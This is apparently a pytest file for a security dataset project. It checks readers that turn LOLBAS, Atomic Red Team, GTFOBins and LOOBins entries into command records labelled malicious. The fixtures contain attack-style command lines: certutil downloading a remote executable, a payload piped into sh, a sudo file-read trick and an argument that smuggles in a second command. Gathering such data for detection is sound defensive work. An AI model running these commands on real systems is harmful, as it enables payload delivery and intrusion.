"""LOLBAS, Atomic Red Team, GTFOBins and LOOBins readers on tiny fake checkouts."""

from __future__ import annotations

from pathlib import Path

import pytest

from distilsec.data.readers import read_atomic_red_team, read_gtfobins, read_lolbas, read_loobins
from distilsec.data.readers.atomic_red_team import platform_of, substitute_arguments
from distilsec.data.skips import SkipCounter
from distilsec.errors import DataError


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


CERTUTIL = """---
Name: Certutil.exe
Description: Windows binary used for handling certificates
Created: 2018-05-25
Commands:
  - Command: certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}
    Description: Download and save an executable to disk.
    Usecase: Download file from Internet
    Category: Download
    Privileges: User
    MitreID: T1105
    OperatingSystem: Windows 10
  - Command: "  certutil -decode {PATH:.base64} {PATH}\\n"
    Description: Decode a Base64 file.
    Usecase: Decode files
    Category: Decode
    MitreID: T1140
  - Command: "   "
    Category: Execute
"""

PSCRIPT = """---
Name: Pester.bat
Created: 2019-01-02
Commands:
  - Command: Pester.bat [/help|?|-?|/?] "$null; notepad"
    Category: Execute
    MitreID: T1216
"""


@pytest.fixture
def lolbas_root(tmp_path: Path) -> Path:
    root = tmp_path / "LOLBAS"
    write(root / "yml" / "OSBinaries" / "Certutil.yml", CERTUTIL)
    write(root / "yml" / "OSScripts" / "Pester.yml", PSCRIPT)
    write(root / "yml" / "Archive" / "Old.yml", PSCRIPT.replace("Pester", "Old"))  # not an entry folder
    return root


def test_lolbas_extracts_commands_with_meta(lolbas_root: Path) -> None:
    skips = SkipCounter()
    got = list(read_lolbas(lolbas_root, skips=skips))
    assert [e.text for e in got] == [
        "certutil.exe -urlcache -f {REMOTEURL:.exe} {PATH:.exe}",
        "certutil -decode {PATH:.base64} {PATH}",
        'Pester.bat [/help|?|-?|/?] "$null; notepad"',
    ]
    first = got[0]
    assert (first.label, first.group, first.source, first.platform, first.time) == (
        "malicious",
        "Certutil.exe",
        "lolbas",
        "windows",
        "2018-05-25",
    )
    assert first.meta["technique"] == "T1105"
    assert first.meta["category"] == "Download"
    assert first.meta["usecase"] == "Download file from Internet"
    assert first.meta["description"] == "Download and save an executable to disk."
    assert first.meta["lolbas_type"] == "OSBinaries"
    assert got[2].meta["lolbas_type"] == "OSScripts"
    assert got[2].time == "2019-01-02"
    assert skips.as_dict() == {"empty_text": 1}


def test_lolbas_malformed_yaml_is_counted_and_reading_goes_on(lolbas_root: Path) -> None:
    write(lolbas_root / "yml" / "OSBinaries" / "Broken.yml", "Name: [unclosed\nCommands: {\n")
    skips = SkipCounter()
    got = list(read_lolbas(lolbas_root, skips=skips))
    assert len(got) == 3
    assert skips.counts["yaml_error"] == 1


def test_lolbas_missing_yml_folder(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="yml"):
        read_lolbas(tmp_path)


ATOMIC = """attack_technique: T1105
display_name: Ingress Tool Transfer
atomic_tests:
- name: certutil download
  auto_generated_guid: 11111111-2222-3333-4444-555555555555
  supported_platforms:
  - windows
  input_arguments:
    remote_file:
      description: URL
      type: url
      default: https://example.org/a.exe
    local_path:
      type: path
      default: C:\\Temp\\a.exe
    port:
      type: integer
      default: 8080
  executor:
    name: command_prompt
    elevation_required: true
    command: |
      certutil -urlcache -split -f #{remote_file} #{local_path} #{port} #{unknown}
- name: manual test
  supported_platforms: [macos]
  executor:
    name: manual
    steps: click things
- name: no command
  supported_platforms: [linux]
  executor:
    name: sh
- name: curl download
  supported_platforms: [macos, linux]
  executor:
    name: sh
    command: curl -o /tmp/x https://example.org/x
- name: cloud
  supported_platforms: [iaas:aws]
  executor:
    name: sh
    command: aws s3 ls
"""


@pytest.fixture
def atomic_root(tmp_path: Path) -> Path:
    root = tmp_path / "atomic-red-team"
    write(root / "atomics" / "T1105" / "T1105.yaml", ATOMIC)
    write(root / "atomics" / "T1105" / "src" / "payload.yaml", "not: read")
    return root


def test_atomic_extracts_executor_commands(atomic_root: Path) -> None:
    skips = SkipCounter()
    got = list(read_atomic_red_team(atomic_root, skips=skips))
    assert [e.text for e in got] == [
        "certutil -urlcache -split -f #{remote_file} #{local_path} #{port} #{unknown}",
        "curl -o /tmp/x https://example.org/x",
        "aws s3 ls",
    ]
    assert [e.platform for e in got] == ["windows", "macos", "other"]
    assert {e.group for e in got} == {"T1105"}
    assert {e.source for e in got} == {"atomic-red-team"}
    meta = got[0].meta
    assert meta["technique_name"] == "Ingress Tool Transfer"
    assert meta["test_name"] == "certutil download"
    assert meta["executor"] == "command_prompt"
    assert meta["elevation_required"] is True
    assert meta["input_argument_defaults"] == {
        "remote_file": "https://example.org/a.exe",
        "local_path": "C:\\Temp\\a.exe",
        "port": 8080,
    }
    assert skips.as_dict() == {"manual_executor": 1, "no_command": 1}


def test_atomic_substitutes_defaults(atomic_root: Path) -> None:
    got = list(read_atomic_red_team(atomic_root, substitute_defaults=True))
    assert got[0].text == "certutil -urlcache -split -f https://example.org/a.exe C:\\Temp\\a.exe 8080 #{unknown}"
    assert got[0].meta["defaults_substituted"] is True


def test_substitute_arguments_and_platforms() -> None:
    assert substitute_arguments("a #{x} #{y} #{z}", {"x": 1, "y": None}) == "a 1  #{z}"
    assert platform_of(["Linux"]) == "linux"
    assert platform_of(["azure-ad"]) == "other"
    assert platform_of(None) == "other"


GTFO_7Z = """---
functions:
  file-read:
  - code: |-
      7z a -ttar -an -so /path/to/input-file | 7z e -ttar -si -so
    contexts:
      sudo:
      unprivileged:
  shell:
  - code: 7z x -so payload.7z | sh
    comment: needs a payload
  - code: ""
...
"""


def test_gtfobins_reads_functions_and_skips_aliases(tmp_path: Path) -> None:
    root = tmp_path / "GTFOBins"
    write(root / "_gtfobins" / "7z", GTFO_7Z)
    write(root / "_gtfobins" / "7za", "---\nalias: 7z\n---\n")
    skips = SkipCounter()
    got = list(read_gtfobins(root, skips=skips))
    assert [e.text for e in got] == [
        "7z a -ttar -an -so /path/to/input-file | 7z e -ttar -si -so",
        "7z x -so payload.7z | sh",
    ]
    assert [e.meta["function"] for e in got] == ["file-read", "shell"]
    assert got[0].meta["contexts"] == ["sudo", "unprivileged"]
    assert got[1].meta["comment"] == "needs a payload"
    assert {(e.group, e.platform, e.label) for e in got} == {("7z", "linux", "malicious")}
    assert skips.as_dict() == {"empty_text": 1}


LOOBIN = """name: GetFileInfo
short_description: Get attributes of files and directories.
created: 2023-04-23
example_use_cases:
  - name: Iterate through a directory
    description: A bash or zsh oneliner.
    code: for FILE in ~/Downloads/*; do echo $(GetFileInfo $FILE) >> fileinfo.txt; done
    tactics:
      - Discovery
  - name: missing code
    description: nothing to run
"""


def test_loobins(tmp_path: Path) -> None:
    root = tmp_path / "LOOBins"
    write(root / "LOOBins" / "GetFileInfo.yml", LOOBIN)
    skips = SkipCounter()
    got = list(read_loobins(root, skips=skips))
    assert len(got) == 1
    e = got[0]
    assert e.text.startswith("for FILE in ~/Downloads/*")
    assert (e.group, e.platform, e.time, e.source) == ("GetFileInfo", "macos", "2023-04-23", "loobins")
    assert e.meta["tactics"] == ["Discovery"]
    assert e.meta["use_case"] == "Iterate through a directory"
    assert skips.as_dict() == {"missing_text": 1}
